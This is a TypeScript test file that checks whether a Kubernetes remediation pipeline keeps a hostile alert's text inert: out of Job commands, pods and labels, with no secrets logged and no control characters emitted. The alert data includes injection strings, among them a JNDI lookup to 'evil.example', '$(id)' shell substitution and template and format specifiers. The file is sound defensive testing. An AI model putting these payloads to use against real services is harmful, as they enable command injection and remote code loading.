import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createConsoleLogger } from '../../../infra/cli/console-logger.ts';
import { summaryLines } from '../../../infra/cli/demo-summary.ts';
import { createLiveTimeline } from '../../../infra/cli/live-timeline.ts';
import type { DemoReport } from '../../../infra/cli/demo-report.ts';
import { totalsOf } from '../../../infra/local/stack/counts.ts';
import { jobKind, listAll } from '../../../infra/local/story/observe.ts';
import { playOnVirtualClock } from '../../../infra/local/story/play-on-virtual-clock.ts';
import { readStory } from '../../../infra/local/story/story.ts';
import type { Step } from '../../../infra/local/story/trail.ts';
import { KindName, kinds } from '../../../shared/api/kinds.ts';
import type { KubernetesObject } from '../../../shared/api/object-ref.ts';
import { stringAt, valueAt } from '../../../shared/kubernetes/unstructured.ts';
import { createLogger } from '../../../shared/telemetry/logger.ts';
import { tell } from '../sweep.ts';
import { aHostileNotification, controls, marker, secrets } from './hostile-alert.ts';

const root = join(import.meta.dirname, '../../..');
const anySecret = new RegExp(Object.values(secrets).join('|'));

let steps: readonly Step[];
let trail: string;
let resources: readonly KubernetesObject[];
let jobs: readonly KubernetesObject[];
let pods: readonly KubernetesObject[];
let events: readonly KubernetesObject[];
let audit: readonly object[];
let buried: readonly unknown[];
let counts: DemoReport['counts'];
const logged: string[] = [];

/** The main story with production's own logger, whose lines are caught where the process would print them. */
beforeAll(async () => {
  const story = { ...readStory(root, 'payment-api-memory'), notifications: [aHostileNotification()] };
  const writes = [process.stdout, process.stderr].map((stream) =>
    vi.spyOn(stream, 'write').mockImplementation((chunk) => {
      logged.push(String(chunk));
      return true;
    }),
  );
  try {
    await playOnVirtualClock(story, { root, logger: createLogger('hostile', 'debug') }, async (stack, played) => {
      ({ steps, trail } = played);
      const lists = await Promise.all(KindName.map((kind) => listAll(stack.admin, { apiVersion: kinds[kind].apiVersion, kind })));
      resources = lists.flat();
      jobs = await listAll(stack.admin, jobKind);
      pods = await listAll(stack.admin, { apiVersion: 'v1', kind: 'Pod' }, 'kubernaut-system');
      events = await listAll(stack.admin, { apiVersion: 'v1', kind: 'Event' });
      audit = await stack.database.selectFrom('audit_event').selectAll().execute();
      buried = (['alerts', 'audit', ...KindName.map((kind) => kinds[kind].queue)] as const).flatMap((queue) => stack.queues.peek(`${queue}-dlq`));
      counts = { ...totalsOf(stack.counts), jobs: jobs.length, byFunction: Object.fromEntries(stack.counts.all()) };
    });
  } finally {
    for (const write of writes) write.mockRestore();
  }
});

const oneOf = (kind: KindName) => resources.find((object) => object.kind === kind) ?? null;
const commandsOf = (object: KubernetesObject) => JSON.stringify(valueAt(object, 'spec')).match(/"command":\[[^\]]*\]/g);

describe('the main story of a hostile alert', () => {
  it('ends as that of a harmless one does, its text kept as text', () => {
    expect(trail).toBe(readStory(root, 'payment-api-memory').trail);
    expect(stringAt(oneOf('RemediationRequest'), 'status', 'phase')).toBe('completed');
    const alertLabels = valueAt(oneOf('RemediationRequest'), 'spec', 'alertLabels') as Readonly<Record<string, string>>;
    expect(alertLabels['template']).toContain('${jndi:ldap://evil.example/x} {{.metadata.name}} $(id) `id` %s%n');
    expect(alertLabels['constructor']).toBe(marker);
    expect(buried).toEqual([]);
  });

  it('brings nothing of it into an argument, a Job, a pod or a label', () => {
    expect(jobs).toHaveLength(1);
    expect(commandsOf(jobs[0] as KubernetesObject)).toEqual([
      '"command":["kubectl","scale","deployment","payment-api","--namespace=production","--replicas=5"]',
    ]);
    expect([...jobs, ...pods].filter((object) => JSON.stringify(object).includes(marker)).map(({ kind, metadata }) => `${kind} ${metadata.name}`)).toEqual([]);
    const labels = resources.flatMap(({ metadata }) => Object.values(metadata.labels ?? {}));
    expect(labels.filter((value) => !/^([A-Za-z0-9]([A-Za-z0-9_.-]*[A-Za-z0-9])?)?$/.test(value))).toEqual([]);
  });

  it('never writes down what looks like a secret', () => {
    const written = { resources, jobs, events, audit, logged };
    const where = Object.entries(written).filter(([, all]) => anySecret.test(JSON.stringify(all)));
    expect(where.map(([name]) => name)).toEqual([]);
  });

  it('keeps no link that is none', () => {
    expect(stringAt(oneOf('RemediationRequest'), 'spec', 'alertAnnotations', 'runbook_url')).toBeNull();
  });

  it('logs one line of JSON for each, whatever is in it', () => {
    const lines = logged
      .join('')
      .split('\n')
      .filter((line) => line !== '');
    expect(lines.length).toBeGreaterThan(20);
    expect(lines.filter((line) => typeof (JSON.parse(line) as { readonly message?: unknown }).message !== 'string')).toEqual([]);
    expect(lines.filter((line) => controls.test(line) && /[\u0000-\u001f]/.test(line))).toEqual([]); // eslint-disable-line no-control-regex -- that is what is looked for
    tell(`story: ${steps.length} steps, ${lines.length} log lines, ${events.length} Events, ${audit.length} audit rows`);
  });
});

describe('what a demo prints of it', () => {
  it('shows control characters, and does not send them', () => {
    const printed: string[] = [];
    const screen = { line: (text: string) => void printed.push(text), progress: () => undefined };
    const timeline = createLiveTimeline(screen, { now: () => '2026-01-15T10:35:20Z', isTerminal: false, colour: false });
    for (const step of steps)
      timeline.changed(
        jobs[0] as KubernetesObject,
        { ...step, message: `${step.message}${stringAt(oneOf('RemediationRequest'), 'spec', 'alertName')}` },
        steps[0]?.at ?? step.at,
      );
    timeline.stop();
    const report: DemoReport = {
      remediationRequests: resources.filter(({ kind }) => kind === 'RemediationRequest'),
      remediationRequest: oneOf('RemediationRequest'),
      remediationProcessing: oneOf('RemediationProcessing'),
      aiAnalysis: oneOf('AIAnalysis'),
      workflowExecution: oneOf('WorkflowExecution'),
      kubernetesExecutions: resources.filter(({ kind }) => kind === 'KubernetesExecution'),
      jobs,
      events,
      audit: [],
      timeline: [],
      counts,
      executor: 'simulated',
    };
    printed.push(...summaryLines(report));
    createConsoleLogger((line) => void printed.push(line), { verbose: true }).warn('pass', {
      error: stringAt(oneOf('RemediationRequest'), 'spec', 'alertName'),
    });
    expect(printed.join('').includes(marker)).toBe(true);
    expect(printed.filter((line) => line.includes('\n') || controls.test(line))).toEqual([]);
  });
});

afterAll(() => vi.restoreAllMocks());
